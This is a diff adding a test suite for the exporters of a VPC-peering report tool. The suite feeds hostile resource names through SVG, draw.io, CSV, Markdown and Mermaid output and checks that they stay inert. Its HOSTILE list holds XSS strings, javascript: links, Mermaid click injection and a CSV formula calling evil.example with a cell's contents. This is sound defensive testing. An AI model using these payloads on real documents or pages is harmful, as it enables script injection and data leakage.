@@ -1,0 +1,277 @@
+/** Laws for every exporter: same input same bytes, hostile names inert, formats that other readers accept. */
+import { DOMParser } from '@xmldom/xmldom';
+import { parse } from 'csv-parse/sync';
+import { marked } from 'marked';
+import { describe, expect, it } from 'vitest';
+import { exporters } from '#app/exports/index.gen.ts';
+import type { Artefact } from '#app/exports/exporter.ts';
+import type { Report } from '#app/report.ts';
+import { buildScene } from '#app/scene/build.ts';
+import type { World } from '#app/world/world.ts';
+import { World as NewWorld } from '#app/world/world.ts';
+import { estates, reportOf, shuffled } from '../scene/estates.ts';
+
+const artefacts = (report: Report, id: string): readonly Artefact[] =>
+  exporters.find((e) => e.id === id)!.render(report, buildScene(report, { findings: true }));
+const bodies = (report: Report, id: string): string =>
+  artefacts(report, id)
+    .map((a) => (typeof a.body === 'string' ? a.body : new TextDecoder().decode(a.body)))
+    .join('\n');
+const ids = exporters.map((e) => e.id);
+
+const HOSTILE = [
+  '<script>alert(1)</script>',
+  '"><img src=x onerror=alert(1)>',
+  '\'quoted\' & "double" <b>',
+  '=HYPERLINK("http://evil.example/?"&A1,"click")',
+  '+SUM(1)|cmd',
+  '@import',
+  '\t=1+1',
+  '-2+3',
+  'pipe | pipe `code` *bold* _it_ [link](javascript:alert(1)) ![x](http://evil.example/x.png)',
+  'https://evil.example/?q=1 www.evil.example mail@evil.example',
+  '# heading\n- item\r\n> quote',
+  '\u202eevil\u202c \u2066x\u2069 \u200fy',
+  'nul\u0000bell\u0007esc\u001b[31mred del\u007f c1\u009b31m',
+  'javascript:alert(1)',
+  ']]><!-- --> <?xml ?> &amp; &#60;b&#62;',
+  'end\nsubgraph x\nclick n0 "javascript:alert(1)"',
+  '"]; click n1 call alert() %% #quot;',
+  'lone \ud800 surrogate',
+  `${'long '.repeat(820)}end`,
+  '%name% ${x} {{y}}',
+];
+
+/** Every hostile text as a VPC's name, a transit gateway's, a peering's and a finding's words. */
+function hostile(): Report {
+  const world: World = new NewWorld();
+  const at = world.region();
+  const vpcs = HOSTILE.map((name, i) => {
+    const vpc = at.vpc(`v${i}`, `10.${i}.0.0/16`);
+    const item = world.items.find((x) => x.id === vpc.id)!;
+    const made = item.item;
+    (item as { item: () => Record<string, unknown> }).item = () => ({
+      ...made(),
+      Tags: [
+        { Key: 'Name', Value: name },
+        { Key: name.slice(0, 127), Value: name },
+      ],
+    });
+    return vpc;
+  });
+  for (const [i, vpc] of vpcs.entries())
+    world.peer(vpcs[(i + 1) % vpcs.length]!, vpc, { name: HOSTILE[i]! });
+  const report = reportOf(world, []);
+  return {
+    ...report,
+    findings: HOSTILE.map((text, i) => ({
+      rule: 'peering-one-way',
+      severity: 'error',
+      sure: true,
+      message: text,
+      resources: [vpcs[i]!.id],
+      path: [vpcs[i]!.id, vpcs[0]!.id],
+      places: [{ resource: vpcs[i]!.id, detail: text }],
+      data: {},
+      gaps: [],
+      fingerprint: `f${i}`,
+    })),
+    gaps: [
+      {
+        id: 'g',
+        kind: 'call',
+        failure: 'refused',
+        account: '111111111111',
+        region: 'us-east-1',
+        call: 'ec2:DescribeVpcs',
+        hides: ['vpc'],
+        subject: undefined,
+        message: HOSTILE.slice(0, 8).join(' '),
+      },
+    ],
+  };
+}
+
+const nasty = hostile();
+
+/** Parses as XML with a parser that is not ours; any complaint fails. */
+function xmlOf(text: string): Document {
+  const complaints: string[] = [];
+  const say = (m: unknown): void => void complaints.push(String(m));
+  const doc = new DOMParser({
+    errorHandler: { warning: say, error: say, fatalError: say },
+  }).parseFromString(text, 'text/xml');
+  expect(complaints).toEqual([]);
+  return doc as unknown as Document;
+}
+const elements = (doc: Document, name: string): Element[] =>
+  Array.from(doc.getElementsByTagName(name));
+
+/** Control characters (but line ends), bidirectional controls, lone surrogates. */
+const LIVE =
+  // eslint-disable-next-line no-control-regex -- that is what it looks for
+  /[\u0000-\u0008\u000b\u000c\u000e-\u001f\u007f-\u009f\u200e\u200f\u202a-\u202e\u2066-\u2069]|[\ud800-\udfff]/u;
+
+describe.each(ids)('exporter %s', (id) => {
+  it.each(estates)('gives the same bytes twice, and for shuffled pages: $name', ({ report }) => {
+    const once = artefacts(report(), id);
+    expect(artefacts(report(), id)).toEqual(once);
+    expect(artefacts(report(shuffled), id)).toEqual(once);
+  });
+
+  it('shows what is invisible or turns text around', () => {
+    expect(bodies(nasty, id)).not.toMatch(LIVE);
+    expect(bodies(nasty, id)).toContain('\ufffd');
+  });
+
+  it('names its artefacts after its extension', () => {
+    for (const a of artefacts(nasty, id))
+      expect(a.name).toMatch(
+        new RegExp(`^[a-z-]+\\.${exporters.find((e) => e.id === id)!.about.extension}$`),
+      );
+  });
+});
+
+describe('svg', () => {
+  const doc = xmlOf(bodies(nasty, 'svg'));
+
+  it('is well-formed and holds nothing that runs or fetches', () => {
+    for (const name of [
+      'script',
+      'a',
+      'foreignObject',
+      'image',
+      'use',
+      'iframe',
+      'animate',
+      'set',
+    ]) {
+      expect(elements(doc, name), name).toEqual([]);
+    }
+    for (const e of elements(doc, '*')) {
+      for (const a of Array.from(e.attributes)) {
+        expect(a.name).not.toMatch(/^on|href$/i);
+        if (a.name !== 'xmlns') expect(a.value).not.toMatch(/javascript:|url\(|https?:/i);
+      }
+    }
+  });
+
+  it('keeps text as text: a name reads back exactly, but for what was made visible', () => {
+    const titles = elements(doc, 'title').map((t) => t.textContent);
+    expect(titles.some((t) => t.startsWith('<script>alert(1)</script> | '))).toBe(true);
+    expect(titles.some((t) => t.startsWith(HOSTILE.at(-2)!))).toBe(true);
+  });
+
+  it('gives elements ids that are unique and safe', () => {
+    const all = elements(doc, '*').flatMap((e) => e.getAttribute('id') || []);
+    expect(new Set(all).size).toBe(all.length);
+    for (const one of all) expect(one).toMatch(/^[A-Za-z][\w.-]*$/);
+  });
+});
+
+describe('drawio', () => {
+  it.each([
+    ...estates.map((e) => ({ name: e.name, report: e.report })),
+    { name: 'hostile', report: hostile },
+  ])(
+    'glues every connector to cells of its page, and nests cells in cells that exist: $name',
+    ({ report }) => {
+      const doc = xmlOf(bodies(report(), 'drawio'));
+      expect(elements(doc, 'diagram')[0]?.getAttribute('name')).toBe('Overview');
+      for (const page of elements(doc, 'diagram')) {
+        const inPage = (name: string): Element[] => Array.from(page.getElementsByTagName(name));
+        const cells = [...inPage('object'), ...inPage('mxCell')].flatMap(
+          (e) => e.getAttribute('id') || [],
+        );
+        expect(new Set(cells).size).toBe(cells.length);
+        for (const cell of inPage('mxCell')) {
+          for (const end of ['source', 'target', 'parent']) {
+            const to = cell.getAttribute(end);
+            if (to) expect(cells).toContain(to);
+          }
+          if (cell.getAttribute('edge') === '1') {
+            expect(cell.getAttribute('source')).toBeTruthy();
+            expect(cell.getAttribute('target')).toBeTruthy();
+          }
+          // Labels are HTML to draw.io unless a cell says otherwise.
+          if (cell.getAttribute('style')) expect(cell.getAttribute('style')).toContain('html=0');
+        }
+        for (const object of inPage('object')) {
+          expect(object.getAttribute('link')).toBeFalsy();
+          expect(object.getAttribute('placeholders')).toBeFalsy();
+        }
+      }
+    },
+  );
+
+  it('has one page a Region after the overview', () => {
+    const sample = estates.find((e) => e.name === 'sample')!;
+    const names = elements(xmlOf(bodies(sample.report(), 'drawio')), 'diagram').map((d) =>
+      d.getAttribute('name'),
+    );
+    expect(names).toEqual(['Overview', 'eu-west-1', 'us-east-1', 'us-west-2']);
+  });
+});
+
+describe('csv', () => {
+  it('is read by a strict parser, and no cell begins like a formula', () => {
+    for (const a of artefacts(nasty, 'csv')) {
+      const rows = parse(a.body as string, {
+        bom: false,
+        relax_quotes: false,
+        record_delimiter: '\r\n',
+      }) as string[][];
+      for (const cell of rows.flat()) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
+    }
+  });
+
+  it('keeps what a cell says, behind an apostrophe where it would run', () => {
+    const vpcs = artefacts(nasty, 'csv').find((a) => a.name === 'peerless-vpcs.csv')!;
+    const names = (parse(vpcs.body as string) as string[][]).map((row) => row[1]);
+    expect(names).toContain('\'=HYPERLINK("http://evil.example/?"&A1,"click")');
+    expect(names).toContain('"><img src=x onerror=alert(1)>');
+  });
+});
+
+describe('markdown', () => {
+  it('renders to no link, image, code or HTML that a name brought in', () => {
+    const html = marked.parse(bodies(nasty, 'markdown'), { gfm: true, async: false });
+    expect(html).not.toMatch(/<(a|img|script|b|em|code|blockquote|del|input)\b/i);
+    const headings = [...html.matchAll(/<h[1-6]>(.*?)<\/h[1-6]>/g)].map((m) => m[1]);
+    expect(headings.filter((h) => h?.includes('heading'))).toEqual([]);
+  });
+
+  it('keeps every table row in its columns', () => {
+    const html = marked.parse(bodies(nasty, 'markdown'), { gfm: true, async: false });
+    for (const table of html.split('<table>').slice(1)) {
+      const [head = '', body = ''] = table.split('</thead>');
+      const columns = head.split('<th>').length - 1;
+      for (const row of body.split('<tr>').slice(1))
+        expect(row.split('<td>').length - 1).toBe(columns);
+    }
+  });
+});
+
+describe('mermaid', () => {
+  it('has one statement a line, and none that a name brought in', () => {
+    const node = /^\s+n\d+(\[|\{\{|\(\[)"[^"]*"(\]|\}\}|\]\))(:::ghost)?$/;
+    const box = /^\s+(subgraph n\d+\["[^"]*"\]|end)$/;
+    const link = /^\s+n\d+ (---|===|-\.-)(\|"[^"]*"\|)? n\d+$/;
+    const [first, second, ...rest] = bodies(nasty, 'mermaid').trimEnd().split('\n');
+    expect(first).toBe('flowchart TB');
+    expect(second).toMatch(/^ {2}classDef ghost /);
+    for (const line of rest)
+      expect(line).toMatch(new RegExp([node, box, link].map((r) => r.source).join('|')));
+  });
+});
+
+describe('json', () => {
+  it('says what it is, and what there is', () => {
+    const report = estates.find((e) => e.name === 'sample')!.report();
+    const read = JSON.parse(bodies(report, 'json')) as Record<string, never>;
+    expect(read['schema']).toBe('peerless/report@1');
+    expect(read['counts']['vpc']).toBe(report.topology.all('vpc').length);
+    expect(read['resources']['vpc'][0]['cidrs'][0]).toMatch(/^[\d.]+\/\d+$/);
+    expect(read['summary']).toEqual(report.summary);
+  });
+});
